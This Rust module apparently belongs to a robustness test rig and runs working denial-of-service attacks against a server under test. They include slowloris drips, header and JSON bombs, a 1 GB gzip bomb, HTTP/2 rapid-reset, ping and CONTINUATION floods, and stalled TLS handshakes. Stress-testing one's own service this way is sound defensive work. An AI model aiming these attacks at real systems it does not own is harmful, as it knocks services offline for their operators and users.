//! The attacks of the scenario `hostile`, each in one thread and each until it is stopped.

use std::io::{Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use anyhow::Result;
use flate2::{Compress, Compression, FlushCompress};
use punctual_model::{Clock as _, SystemClock};

use crate::rig::pause;

/// How far an attack is.
#[derive(Debug, Default)]
pub(crate) struct State {
    ready: AtomicBool,
    stopped: AtomicBool,
}

impl State {
    pub(crate) fn stop(&self) {
        self.stopped.store(true, Ordering::Relaxed);
    }

    /// False when that takes longer than `wait_max`.
    pub(crate) fn wait_until_ready(&self, wait_max: Duration) -> bool {
        let clock = SystemClock::new();
        while !self.ready.load(Ordering::Relaxed) {
            if clock.read().monotonic > wait_max {
                return false;
            }
            pause(Duration::from_millis(10));
        }
        true
    }

    fn goes_on(&self) -> bool {
        self.ready.store(true, Ordering::Relaxed);
        !self.stopped.load(Ordering::Relaxed)
    }
}

pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// Whether the port speaks TLS.
    pub(crate) secure: bool,
    /// Answers how often it struck.
    pub(crate) run: fn(SocketAddr, &State) -> Result<u64>,
}

const fn plain(name: &'static str, run: fn(SocketAddr, &State) -> Result<u64>) -> Attack {
    Attack { name, secure: false, run }
}

const fn secure(name: &'static str, run: fn(SocketAddr, &State) -> Result<u64>) -> Attack {
    Attack { name, secure: true, run }
}

pub(crate) const ATTACKS: &[Attack] = &[
    plain("10,000 idle connections", |to, state| idle(to, state, 10_000)),
    plain("500 heads that drip", |to, state| drip(to, state, b"GET / HTTP/1.1\r\nx: ")),
    plain("500 bodies that drip", |to, state| drip(to, state, SLOW_BODY)),
    plain("heads of 1 MB", |to, state| strike(to, state, &head_bomb())),
    plain("heads of 10,000 fields", |to, state| strike(to, state, &many_fields())),
    plain("bodies of 1 GB, chunked", huge_bodies),
    plain("JSON 500,000 levels deep", |to, state| strike(to, state, &deep())),
    plain("JSON of 4 million values", |to, state| strike(to, state, &wide())),
    plain("gzip of 1 GB", |to, state| strike(to, state, &bomb())),
    plain("pipelined requests, nothing read", |to, state| strike(to, state, &pipeline())),
    plain("h2: streams opened and reset", |to, state| strike(to, state, &rapid_reset())),
    plain("h2: pings", |to, state| strike(to, state, &h2(&frame(6, 0, 0, &[0; 8]).repeat(20_000)))),
    plain("h2: endless continuations", |to, state| strike(to, state, &continuations())),
    plain("connections opened and closed", churn),
    secure("10,000 silent connections before TLS", |to, state| idle(to, state, 10_000)),
    secure("500 handshakes half done", |to, state| stall(to, state, 500)),
    secure("handshakes given up", |to, state| strike(to, state, &hello())),
];

const SLOW_BODY: &[u8] = b"POST /v1/topics/t/publish HTTP/1.1\r\nhost: localhost\r\n\
                           content-length: 1000000\r\n\r\n";
/// Pause between two strikes of an attack that costs the server something.
const STRIKE_PAUSE: Duration = Duration::from_millis(20);

fn connect(to: SocketAddr) -> Result<TcpStream> {
    let stream = TcpStream::connect(to)?;
    stream.set_read_timeout(Some(Duration::from_secs(2)))?;
    stream.set_write_timeout(Some(Duration::from_secs(2)))?;
    Ok(stream)
}

/// Connections without a word; whoever was closed is replaced.
fn idle(to: SocketAddr, state: &State, count: usize) -> Result<u64> {
    let mut streams = Vec::with_capacity(count);
    for _ in 0..count {
        streams.push(connect(to)?);
    }
    let mut struck = count as u64;
    while state.goes_on() {
        for stream in &mut streams {
            if !state.goes_on() {
                break;
            }
            if has_ended(stream) {
                *stream = connect(to)?;
                struck += 1;
            }
        }
        pause(Duration::from_millis(500));
    }
    Ok(struck)
}

fn has_ended(stream: &mut TcpStream) -> bool {
    // A stream that cannot be asked has ended too.
    let asked = stream.set_nonblocking(true).and_then(|()| stream.read(&mut [0; 512]));
    let ended = match asked {
        Ok(count) => count == 0,
        Err(error) => error.kind() != std::io::ErrorKind::WouldBlock,
    };
    ended || stream.set_nonblocking(false).is_err()
}

/// Five hundred connections, and a byte on each of them every second.
fn drip(to: SocketAddr, state: &State, start: &[u8]) -> Result<u64> {
    let mut streams = Vec::new();
    for _ in 0..500 {
        let mut stream = connect(to)?;
        stream.write_all(start)?;
        streams.push(stream);
    }
    let mut struck = 500;
    while state.goes_on() {
        for stream in &mut streams {
            if !state.goes_on() {
                break;
            }
            if stream.write_all(b"x").is_err() || has_ended(stream) {
                *stream = connect(to)?;
                stream.write_all(start)?;
                struck += 1;
            }
            pause(Duration::from_millis(2));
        }
    }
    Ok(struck)
}

/// The same bytes on one connection after the other, and whatever comes back.
fn strike(to: SocketAddr, state: &State, bytes: &[u8]) -> Result<u64> {
    let mut struck = 0;
    let mut sink = [0; 4096];
    while state.goes_on() {
        let mut stream = connect(to)?;
        // Whoever refuses early closes before everything is sent.
        let _refused = stream.write_all(bytes).is_err();
        let _answer = stream.read(&mut sink).is_ok();
        struck += 1;
        pause(STRIKE_PAUSE);
    }
    Ok(struck)
}

fn huge_bodies(to: SocketAddr, state: &State) -> Result<u64> {
    let mut chunk = b"10000\r\n".to_vec();
    chunk.extend_from_slice(&[b'x'; 0x10000]);
    chunk.extend_from_slice(b"\r\n");
    let mut struck = 0;
    while state.goes_on() {
        let mut stream = connect(to)?;
        stream.write_all(&post("transfer-encoding: chunked\r\n", b""))?;
        let mut chunks = 0;
        while chunks < 16_384 && state.goes_on() && stream.write_all(&chunk).is_ok() {
            chunks += 1;
        }
        struck += 1;
        pause(STRIKE_PAUSE);
    }
    Ok(struck)
}

fn churn(to: SocketAddr, state: &State) -> Result<u64> {
    let mut struck = 0;
    while state.goes_on() {
        drop(connect(to)?);
        struck += 1;
        if struck % 10 == 0 {
            pause(Duration::from_millis(1));
        }
    }
    Ok(struck)
}

/// Handshakes that begin and do not go on.
fn stall(to: SocketAddr, state: &State, count: usize) -> Result<u64> {
    let hello = hello();
    let mut streams = Vec::new();
    let mut struck = 0;
    while state.goes_on() {
        streams.retain_mut(|stream| !has_ended(stream));
        while streams.len() < count {
            let mut stream = connect(to)?;
            // Half of them have greeted, and half of them have only begun to.
            let part = if struck % 2 == 0 { &hello[..] } else { &hello[..30] };
            stream.write_all(part)?;
            streams.push(stream);
            struck += 1;
        }
        pause(Duration::from_millis(100));
    }
    Ok(struck)
}

fn post(fields: &str, body: &[u8]) -> Vec<u8> {
    let head = format!(
        "POST /v1/topics/t/messages HTTP/1.1\r\nhost: localhost\r\n\
         content-type: application/json\r\n{fields}\r\n"
    );
    [head.as_bytes(), body].concat()
}

fn sized(fields: &str, body: &[u8]) -> Vec<u8> {
    post(&format!("{fields}content-length: {}\r\n", body.len()), body)
}

fn head_bomb() -> Vec<u8> {
    post(&format!("x-bomb: {}\r\n", "x".repeat(1 << 20)), b"")
}

fn many_fields() -> Vec<u8> {
    post(&(0..10_000).map(|number| format!("{number}:\r\n")).collect::<String>(), b"")
}

fn deep() -> Vec<u8> {
    sized("", &b"[".repeat(500_000))
}

fn wide() -> Vec<u8> {
    sized("", &[&b"{\"messages\":["[..], &b"0,".repeat(4_000_000), b"0]}"].concat())
}

/// A megabyte of gzip for a gigabyte of zeros: the same block again and again.
fn bomb() -> Vec<u8> {
    let mut block = Vec::with_capacity(1 << 16);
    let mut compress = Compress::new(Compression::best(), false);
    // It fits, as the test of the same bytes shows.
    let _whole = compress.compress_vec(&vec![0; 1 << 20], &mut block, FlushCompress::Full).is_ok();
    let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    bytes.extend(block.repeat(1024));
    sized("content-encoding: gzip\r\n", &bytes)
}

fn pipeline() -> Vec<u8> {
    b"GET /v1/topics HTTP/1.1\r\nhost: localhost\r\n\r\n".repeat(5000)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend_from_slice(&[kind, flags]);
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// The start of HTTP/2, and what follows.
fn h2(frames: &[u8]) -> Vec<u8> {
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &frame(4, 0, 0, &[])[..], frames].concat()
}

/// A head of which the table has every part: GET / over http.
const HEAD: &[u8] = &[0x82, 0x86, 0x84];

fn rapid_reset() -> Vec<u8> {
    let pair = |number: u32| {
        let mut pair = frame(1, 4, number * 2 + 1, HEAD);
        pair.extend(frame(3, 0, number * 2 + 1, &8u32.to_be_bytes()));
        pair
    };
    h2(&(0..10_000).flat_map(pair).collect::<Vec<u8>>())
}

fn continuations() -> Vec<u8> {
    h2(&[frame(1, 0, 1, HEAD), frame(9, 0, 1, &[0x82; 16_000]).repeat(1000)].concat())
}

/// The greeting of a client of TLS 1.2 with one cipher, one group and one signature scheme.
fn hello() -> Vec<u8> {
    let mut hello = vec![3, 3];
    hello.extend_from_slice(&[7; 32]);
    hello.extend_from_slice(&[0, 0, 2, 0xc0, 0x2b, 1, 0]);
    hello.extend_from_slice(&[0, 16, 0, 10, 0, 4, 0, 2, 0, 29, 0, 13, 0, 4, 0, 2, 4, 3]);
    let length = u8::try_from(hello.len()).unwrap_or_default();
    let mut record = vec![0x16, 3, 1, 0, length + 4, 1, 0, 0, length];
    record.extend_from_slice(&hello);
    record
}
